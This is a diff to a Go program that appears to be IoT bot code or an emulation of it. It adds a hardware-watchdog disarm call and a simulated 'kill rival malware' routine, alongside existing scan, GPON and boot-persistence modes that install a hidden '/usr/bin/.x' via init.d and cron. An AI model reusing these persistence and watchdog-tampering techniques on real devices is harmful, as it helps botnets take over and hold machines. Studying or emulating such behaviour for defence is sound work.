@@ -10,6 +10,7 @@ import (
 	"io"
 	"net"
 	"os"
+	"os/exec"
 	"runtime/debug"
 	"strings"
 	"time"
@@ -27,6 +28,9 @@ func main() {
 		scan()
 		gpon()
 		watchdog()
+		killOther()
+	case "sleep":
+		time.Sleep(10 * time.Second)
 	case "persist-init":
 		persist("/usr/bin/.x", "/etc/init.d/S95x", "#!/bin/sh\n/usr/bin/.x &\n")
 	case "persist-cron":
@@ -107,9 +111,23 @@ func gpon() {
 func watchdog() {
 	for _, p := range []string{"/dev/watchdog", "/dev/misc/watchdog"} {
 		if f, err := os.OpenFile(p, os.O_RDWR, 0); err == nil {
+			disarm(f)
 			f.Close()
 		}
 	}
+}
+
+// killOther starts a rival through the device's shell and kills it, as
+// bots kill competing malware.
+func killOther() {
+	cmd := exec.Command("/bin/sh", "-c", "sleep 30")
+	if err := cmd.Start(); err != nil {
+		fmt.Println("start rival:", err)
+		return
+	}
+	time.Sleep(300 * time.Millisecond)
+	cmd.Process.Kill()
+	cmd.Wait()
 }
 
 // persist copies the bot to flash and registers it to start at boot; a copy
